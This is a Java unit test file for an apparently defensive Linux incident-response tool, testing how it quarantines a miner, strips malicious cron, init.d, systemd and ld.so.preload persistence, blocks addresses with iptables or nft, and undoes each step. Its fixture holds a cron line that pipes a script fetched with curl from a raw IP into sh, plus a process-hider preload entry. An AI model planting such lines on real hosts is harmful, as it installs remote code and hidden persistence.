package dev.ferret.respond.linux;

import com.fasterxml.jackson.databind.JsonNode;
import dev.ferret.respond.apply.Applier;
import dev.ferret.respond.apply.Outcome;
import dev.ferret.respond.apply.Outcome.Status;
import dev.ferret.respond.plan.Action;
import dev.ferret.respond.plan.ExpectedLine;
import dev.ferret.respond.plan.Plan;
import dev.ferret.respond.plan.Platform;
import dev.ferret.respond.plan.ProcessTarget;
import dev.ferret.respond.plan.Step;
import dev.ferret.respond.plan.StepKind;
import dev.ferret.respond.quarantine.Store;
import dev.ferret.respond.quarantine.Undo;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.BasicFileAttributeView;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Applying and undoing file, persistence and firewall steps against a temporary root (the way an offline image is
 * handled), with a fake process control and a fake firewall tool: no real process, firewall or host file is
 * involved. Live process handling is covered by the namespace integration tests.
 */
class LinuxExecutorTest {
    static final String CRONTAB = "/var/spool/cron/crontabs/root";
    static final String DDG = "curl -fsSL http://218.248.40.228:8443/i.sh | sh";
    static final String CRON_TEXT = "# m h dom mon dow command\r\n17 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\r\n"
            + "*/5 * * * * " + DDG + "\n0 4 * * * find /var/log -name '*.gz' -mtime +30 -delete";
    static final Instant MTIME = Instant.parse("2020-01-02T03:04:05.123456789Z");
    static final Instant ATIME = Instant.parse("2021-06-07T08:09:10.987654321Z");

    @TempDir
    Path root;
    @TempDir
    Path storeDir;

    final FakeRunner runner = new FakeRunner();
    final Set<Integer> unkillable = new HashSet<>();
    final List<String> signals = new ArrayList<>();

    @BeforeEach
    void tree() throws IOException {
        write(CRONTAB, CRON_TEXT);
        write("/var/tmp/.x/xmrig", "\u007fELF miner bytes");
        Path miner = real("/var/tmp/.x/xmrig");
        Files.setPosixFilePermissions(miner, PosixFilePermissions.fromString("rwxr-x---"));
        Files.getFileAttributeView(miner, BasicFileAttributeView.class).setTimes(FileTime.from(MTIME),
                FileTime.from(ATIME), null);
        write("/etc/init.d/ddg", "#!/bin/sh\n/tmp/ddg.2021\n");
        Files.createDirectories(real("/etc/rc2.d"));
        Files.createSymbolicLink(real("/etc/rc2.d/S99ddg"), Path.of("../init.d/ddg"));
        write("/etc/ld.so.preload", "/usr/lib/libjemalloc.so.2 /usr/local/lib/libprocesshider.so\n");
    }

    void write(String hostPath, String content) throws IOException {
        Path p = real(hostPath);
        Files.createDirectories(p.getParent());
        Files.writeString(p, content, StandardCharsets.UTF_8);
    }

    Path real(String hostPath) {
        return root.resolve(hostPath.substring(1));
    }

    /** iptables as a set of rules: -C answers from it, -I adds, -D removes. */
    static final class FakeRunner implements CommandRunner {
        final Set<String> rules = new HashSet<>();
        final List<String> log = new ArrayList<>();

        @Override
        public Result run(List<String> command) {
            log.add(String.join(" ", command));
            List<String> rest = command.subList(2, command.size());
            String op = command.get(1);
            String rule = String.join(" ", rest.get(0).equals("OUTPUT") || rest.get(0).equals("INPUT")
                    ? strip(rest) : rest);
            return switch (op) {
                case "-C" -> new Result(rules.contains(rule) ? 0 : 1, "");
                case "-I" -> {
                    rules.add(rule);
                    yield new Result(0, "");
                }
                case "-D" -> new Result(rules.remove(rule) ? 0 : 1, "no such rule");
                default -> new Result(1, "unexpected " + command);
            };
        }

        private static List<String> strip(List<String> rest) {
            List<String> r = new ArrayList<>(rest);
            if (r.size() > 1 && r.get(1).equals("1")) {
                r.remove(1);
            }
            return r;
        }

        @Override
        public Optional<String> which(String tool) {
            return tool.equals("iptables") ? Optional.of("iptables") : Optional.empty();
        }
    }

    ProcessControl control(Protection protection) {
        return new ProcessControl(null, ProcessTable.empty(), protection) {
            @Override
            protected Report signal(ProcessTarget t, int sig) {
                signals.add(sig + ":" + t.pid());
                if (sig == 9 && unkillable.contains(t.pid())) {
                    return new Report(Result.FAILED, "pid " + t.pid() + " is still there after SIGKILL (state D)");
                }
                return new Report(Result.DONE, "ok " + t.pid());
            }
        };
    }

    List<Outcome> apply(Plan plan, String run) throws IOException {
        Protection protection = new Protection(List.of(1), List.of(storeDir), PackageFiles.none(), root);
        try (Store store = Store.open(storeDir)) {
            LinuxExecutor ex = new LinuxExecutor(protection, control(protection), store, runner,
                    Firewall.of(Firewall.Tool.IPTABLES), false, false, null, Clock.systemUTC(), run);
            return new Applier(ex, store, Clock.fixed(Instant.EPOCH, ZoneOffset.UTC), run, null).apply(plan, Map.of());
        }
    }

    /** Answers commands from a script of (prefix, exit code) pairs, the first matching; logs every command. */
    static final class ScriptedRunner implements CommandRunner {
        final List<String[]> answers = new ArrayList<>();
        final List<String> log = new ArrayList<>();

        ScriptedRunner answer(String prefix, int code, String output) {
            answers.add(new String[] {prefix, Integer.toString(code), output});
            return this;
        }

        @Override
        public Result run(List<String> command) {
            String line = String.join(" ", command);
            log.add(line);
            for (String[] a : answers) {
                if (line.startsWith(a[0])) {
                    return new Result(Integer.parseInt(a[1]), a[2]);
                }
            }
            return new Result(0, "");
        }

        @Override
        public Optional<String> which(String tool) {
            return Optional.of(tool);
        }
    }

    List<Outcome> applyWith(Plan plan, CommandRunner commands, Firewall.Tool tool, boolean systemd, boolean live)
            throws IOException {
        Protection protection = new Protection(List.of(1), List.of(storeDir), PackageFiles.none(), root);
        try (Store store = Store.open(storeDir)) {
            LinuxExecutor ex = new LinuxExecutor(protection, control(protection), store, commands, Firewall.of(tool),
                    systemd, live, null, Clock.systemUTC(), "r");
            return new Applier(ex, store, Clock.systemUTC(), "r", null).apply(plan, Map.of());
        }
    }

    List<Outcome> undo(String run) throws IOException {
        try (Store store = Store.open(storeDir)) {
            return new Undo(store, null, runner, Clock.systemUTC(), run).replay(null);
        }
    }

    static Step step(String id, StepKind kind, Action action) {
        return new Step(id, kind, List.of("c1"), List.of("test"), "test", action.toString(), null, null, null, false,
                action);
    }

    static ProcessTarget proc(int pid) {
        return new ProcessTarget(pid, 1, "p" + pid, "/tmp/p" + pid, "", 1L, ProcessTarget.Role.MEMBER, 1);
    }

    Plan plan() {
        List<Step> steps = List.of(
                step("s1", StepKind.SUSPEND, new Action.Signal(proc(100), "STOP")),
                step("s2", StepKind.SUSPEND, new Action.Signal(proc(666), "STOP")),
                step("s3", StepKind.EVIDENCE, new Action.CaptureFile("/var/tmp/.x/xmrig")),
                step("s4", StepKind.EVIDENCE, new Action.CaptureFile(CRONTAB)),
                step("s5", StepKind.PERSISTENCE, new Action.RemoveLines(CRONTAB, "cron",
                        List.of(new ExpectedLine(3, DDG, ExpectedLine.Match.CRON_COMMAND)), "/var/spool/cron/crontabs")),
                step("s6", StepKind.PERSISTENCE, new Action.QuarantineFile("/etc/rc2.d/S99ddg")),
                step("s7", StepKind.PERSISTENCE, new Action.QuarantineFile("/etc/init.d/ddg")),
                step("s8", StepKind.BLOCK, new Action.BlockAddress("218.248.40.228")),
                step("s9", StepKind.KILL, new Action.Signal(proc(666), "KILL")),
                step("s10", StepKind.KILL, new Action.Signal(proc(100), "KILL")),
                step("s11", StepKind.QUARANTINE, new Action.QuarantineFile("/var/tmp/.x/xmrig")),
                step("s12", StepKind.QUARANTINE, new Action.QuarantineFile("/tmp/never-there")),
                step("s13", StepKind.PRELOAD, new Action.RemovePreloadEntry("/etc/ld.so.preload", 1,
                        "/usr/local/lib/libprocesshider.so")),
                new Step("s14", StepKind.QUARANTINE, List.of("c1"), List.of("t"), "t", "/etc/passwd", null, null,
                        "refused for the test", false, new Action.QuarantineFile("/etc/passwd")),
                new Step("s15", StepKind.NOTICE, List.of("c1"), List.of("t"), "t", "pool.example", null, null, null, true,
                        new Action.Notice("block pool.example")));
        return new Plan(Platform.LINUX, "test", root.toString(), false, Instant.EPOCH, "test", List.of("c1"), steps,
                List.of());
    }

    static Status status(List<Outcome> outcomes, String id) {
        return outcomes.stream().filter(o -> o.stepId().equals(id)).findFirst().orElseThrow().status();
    }

    static String text(List<Outcome> outcomes) {
        StringBuilder b = new StringBuilder();
        outcomes.forEach(o -> b.append(o.stepId()).append(' ').append(o.status()).append(' ').append(o.message())
                .append('\n'));
        return b.toString();
    }

    @Test
    void aFailureInTheMiddleIsReportedAndTheRemainingStepsStillRun() throws IOException {
        unkillable.add(666);
        List<Outcome> out = apply(plan(), "r1");
        String t = text(out);
        assertEquals(Status.FAILED, status(out, "s9"), t);
        assertEquals(Status.DONE, status(out, "s10"), t);
        assertEquals(Status.DONE, status(out, "s11"), t);
        assertEquals(Status.DONE, status(out, "s13"), t);
        assertEquals(Status.SKIPPED, status(out, "s12"), t);
        assertEquals(Status.REFUSED, status(out, "s14"), t);
        assertEquals(Status.MANUAL, status(out, "s15"), t);
        assertFalse(Applier.complete(out));
        // the audit log says exactly what was and was not done
        try (Store store = Store.open(storeDir)) {
            List<JsonNode> audit = store.audit();
            assertEquals("run-start", audit.get(0).path("event").asText());
            assertEquals("run-end", audit.get(audit.size() - 1).path("event").asText());
            JsonNode failed = audit.stream().filter(a -> "s9".equals(a.path("step").asText())).findFirst().orElseThrow();
            assertEquals("failed", failed.path("result").asText());
            assertTrue(failed.path("error").asText().contains("still there after SIGKILL"), failed.toString());
            assertTrue(audit.stream().allMatch(a -> a.has("@timestamp") && a.has("run")));
            assertEquals(1, audit.get(audit.size() - 1).path("results").path("failed").asInt());
            assertEquals(15, audit.stream().filter(a -> "step".equals(a.path("event").asText())).count());
        }
    }

    @Test
    void applyKeepsEvidenceEditsByteForByteQuarantinesWithMetadataAndUndoPutsEverythingBack() throws IOException {
        // (reading the file here would move its access time: the content is known)
        byte[] minerBytes = "\u007fELF miner bytes".getBytes(StandardCharsets.UTF_8);
        Map<String, Object> minerBefore = Files.readAttributes(real("/var/tmp/.x/xmrig"), "unix:*", LinkOption.NOFOLLOW_LINKS);
        byte[] cronBefore = Files.readAllBytes(real(CRONTAB));
        List<Outcome> out = apply(plan(), "r1");
        String t = text(out);
        assertTrue(Applier.complete(out), t);
        // cron: the DDG line is gone, everything else byte for byte (CRLF lines, no final newline)
        assertEquals("# m h dom mon dow command\r\n17 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\r\n"
                + "0 4 * * * find /var/log -name '*.gz' -mtime +30 -delete", Files.readString(real(CRONTAB)));
        assertEquals("/usr/lib/libjemalloc.so.2\n", Files.readString(real("/etc/ld.so.preload")));
        assertFalse(Files.exists(real("/var/tmp/.x/xmrig"), LinkOption.NOFOLLOW_LINKS));
        assertFalse(Files.exists(real("/etc/rc2.d/S99ddg"), LinkOption.NOFOLLOW_LINKS));
        assertEquals(List.of("iptables -C OUTPUT -d 218.248.40.228 -j DROP", "iptables -I OUTPUT 1 -d 218.248.40.228 -j DROP",
                "iptables -C INPUT -s 218.248.40.228 -j DROP", "iptables -I INPUT 1 -s 218.248.40.228 -j DROP"), runner.log);
        try (Store store = Store.open(storeDir)) {
            JsonNode q = store.manifest().stream().filter(m -> "quarantine".equals(m.path("kind").asText())
                    && "/var/tmp/.x/xmrig".equals(m.path("path").asText())).findFirst().orElseThrow();
            assertEquals("0750", q.at("/facts/mode").asText());
            assertEquals(MTIME.toString(), q.at("/facts/mtime").asText());
            assertEquals(ATIME.toString(), q.at("/facts/atime").asText(), "reading evidence must not move the atime");
            String sha = q.path("sha256").asText();
            try (InputStream in = store.openObject(sha)) {
                assertArrayEquals(minerBytes, in.readAllBytes());
            }
            // stored encoded: not an ELF, not executable
            Path object = storeDir.resolve(Store.objectName(sha));
            byte[] raw = Files.readAllBytes(object);
            assertEquals("FERRETQ1", new String(raw, 0, 8, StandardCharsets.US_ASCII));
            assertFalse(raw[8] == 0x7f && raw[9] == 'E');
            assertFalse(Files.isExecutable(object) && !isRoot());
            assertEquals("r--------", PosixFilePermissions.toString(Files.getPosixFilePermissions(object)));
            // the evidence of the miner and its quarantine share one object
            assertEquals(2, store.manifest().stream().filter(m -> sha.equals(m.path("sha256").asText())).count());
        }

        List<Outcome> again = apply(plan(), "r2");
        assertTrue(again.stream().noneMatch(o -> o.status() == Status.DONE && o.kind() != StepKind.SUSPEND && o.kind() != StepKind.EVIDENCE
                && o.kind() != StepKind.KILL), "applying twice changes nothing:\n" + text(again));
        assertTrue(Applier.complete(again), text(again));
        assertEquals(Status.ALREADY_DONE, status(again, "s3"));
        assertEquals(Status.ALREADY_DONE, status(again, "s5"));
        assertEquals(Status.ALREADY_DONE, status(again, "s8"));
        assertEquals(Status.ALREADY_DONE, status(again, "s11"));

        List<Outcome> undone = undo("u1");
        assertTrue(undone.stream().allMatch(o -> o.status() == Status.DONE), text(undone));
        assertArrayEquals(cronBefore, Files.readAllBytes(real(CRONTAB)));
        Map<String, Object> minerAfter = Files.readAttributes(real("/var/tmp/.x/xmrig"), "unix:*", LinkOption.NOFOLLOW_LINKS);
        assertArrayEquals(minerBytes, Files.readAllBytes(real("/var/tmp/.x/xmrig")));
        for (String k : List.of("mode", "uid", "gid", "size", "lastModifiedTime", "lastAccessTime")) {
            assertEquals(minerBefore.get(k), minerAfter.get(k), k);
        }
        assertEquals(Path.of("../init.d/ddg"), Files.readSymbolicLink(real("/etc/rc2.d/S99ddg")));
        assertEquals("/usr/lib/libjemalloc.so.2 /usr/local/lib/libprocesshider.so\n",
                Files.readString(real("/etc/ld.so.preload")));
        assertTrue(runner.rules.isEmpty(), runner.rules.toString());
        assertTrue(undo("u2").isEmpty(), "nothing left to undo");
    }

    @Test
    void undoNeverOverwritesAFileChangedSinceAndReportsIt() throws IOException {
        apply(plan(), "r1");
        write(CRONTAB, "# the admin rewrote it\n");
        write("/var/tmp/.x/xmrig", "another file now");
        List<Outcome> undone = undo("u1");
        Outcome cron = undone.stream().filter(o -> CRONTAB.equals(o.target())).findFirst().orElseThrow();
        assertEquals(Status.FAILED, cron.status());
        assertTrue(cron.message().contains("changed after ferret edited it"), cron.message());
        assertEquals("# the admin rewrote it\n", Files.readString(real(CRONTAB)));
        Outcome miner = undone.stream().filter(o -> "/var/tmp/.x/xmrig".equals(o.target())).findFirst().orElseThrow();
        assertEquals(Status.FAILED, miner.status());
        assertEquals("another file now", Files.readString(real("/var/tmp/.x/xmrig")));
        // what could be undone was
        assertTrue(Files.isSymbolicLink(real("/etc/rc2.d/S99ddg")));
    }

    @Test
    void aStoreIsNeverMixedIntoSomeoneElsesDirectory() throws IOException {
        Files.writeString(storeDir.resolve("notes.txt"), "mine");
        IOException e = org.junit.jupiter.api.Assertions.assertThrows(IOException.class, () -> Store.open(storeDir));
        assertTrue(e.getMessage().contains("not a ferret store"));
    }

    static Plan planOf(Step... steps) {
        return new Plan(Platform.LINUX, "test", "/", true, Instant.EPOCH, "test", List.of("c1"), List.of(steps), List.of());
    }

    @Test
    void aUnitIsDisabledWithSystemctlOnALiveSystemdHostAndEnabledAgainByUndo() throws IOException {
        ScriptedRunner systemctl = new ScriptedRunner().answer("systemctl is-enabled", 0, "enabled")
                .answer("systemctl is-active", 0, "active");
        Step s = step("s1", StepKind.PERSISTENCE, new Action.DisableUnit("/etc/systemd/system/kworker.service",
                "kworker.service", null));
        List<Outcome> out = applyWith(planOf(s), systemctl, Firewall.Tool.NONE, true, true);
        assertEquals(Status.DONE, out.get(0).status(), text(out));
        assertTrue(systemctl.log.contains("systemctl disable --now kworker.service"), systemctl.log.toString());
        try (Store store = Store.open(storeDir)) {
            List<Outcome> undone = new Undo(store, null, systemctl, Clock.systemUTC(), "u").replay(null);
            assertEquals(Status.DONE, undone.get(0).status(), text(undone));
        }
        assertEquals("systemctl enable kworker.service", systemctl.log.get(systemctl.log.size() - 1));
        // already disabled and stopped: nothing to do
        ScriptedRunner idle = new ScriptedRunner().answer("systemctl is-enabled", 1, "disabled")
                .answer("systemctl is-active", 3, "inactive");
        assertEquals(Status.ALREADY_DONE, applyWith(planOf(s), idle, Firewall.Tool.NONE, true, true).get(0).status());
    }

    @Test
    void withoutSystemdTheUnitsEnablementLinksAreQuarantined() throws IOException {
        write("/etc/systemd/system/kworker.service", "[Service]\nExecStart=/tmp/.k/kworker\n");
        Files.createDirectories(real("/etc/systemd/system/multi-user.target.wants"));
        Files.createSymbolicLink(real("/etc/systemd/system/multi-user.target.wants/kworker.service"),
                Path.of("/etc/systemd/system/kworker.service"));
        Step s = step("s1", StepKind.PERSISTENCE, new Action.DisableUnit("/etc/systemd/system/kworker.service",
                "kworker.service", null));
        ScriptedRunner none = new ScriptedRunner();
        List<Outcome> out = applyWith(planOf(s), none, Firewall.Tool.NONE, false, false);
        assertEquals(Status.DONE, out.get(0).status(), text(out));
        assertTrue(none.log.isEmpty(), "no systemctl for an image: " + none.log);
        assertFalse(Files.exists(real("/etc/systemd/system/multi-user.target.wants/kworker.service"),
                LinkOption.NOFOLLOW_LINKS));
        assertEquals(Status.ALREADY_DONE, applyWith(planOf(s), none, Firewall.Tool.NONE, false, false).get(0).status());
        undo("u");
        assertTrue(Files.isSymbolicLink(real("/etc/systemd/system/multi-user.target.wants/kworker.service")));
    }

    @Test
    void nftGetsItsTableOnceAndEachAddressAsASetElement() throws IOException {
        ScriptedRunner nft = new ScriptedRunner().answer("nft list table", 1, "No such file")
                .answer("nft get element", 1, "not found");
        Step a = step("s1", StepKind.BLOCK, new Action.BlockAddress("91.121.140.167"));
        Step b = step("s2", StepKind.BLOCK, new Action.BlockAddress("2001:db8::7"));
        List<Outcome> out = applyWith(planOf(a, b), nft, Firewall.Tool.NFT, false, true);
        assertTrue(out.stream().allMatch(o -> o.status() == Status.DONE), text(out));
        assertEquals(1, nft.log.stream().filter(l -> l.equals("nft add table inet ferret")).count(), nft.log.toString());
        assertTrue(nft.log.contains("nft add element inet ferret blocked4 { 91.121.140.167 }"), nft.log.toString());
        assertTrue(nft.log.contains("nft add element inet ferret blocked6 { 2001:db8::7 }"), nft.log.toString());
        ScriptedRunner undoNft = new ScriptedRunner();
        try (Store store = Store.open(storeDir)) {
            List<Outcome> undone = new Undo(store, null, undoNft, Clock.systemUTC(), "u").replay(null);
            assertTrue(undone.stream().allMatch(o -> o.status() == Status.DONE), text(undone));
        }
        // the elements go newest first, the table ferret created last
        List<String> deletes = undoNft.log.stream().filter(l -> l.startsWith("nft delete")).toList();
        assertEquals(List.of("nft delete element inet ferret blocked6 { 2001:db8::7 }",
                "nft delete element inet ferret blocked4 { 91.121.140.167 }", "nft delete table inet ferret"), deletes);
    }

    static boolean isRoot() {
        return "root".equals(System.getProperty("user.name"));
    }
}
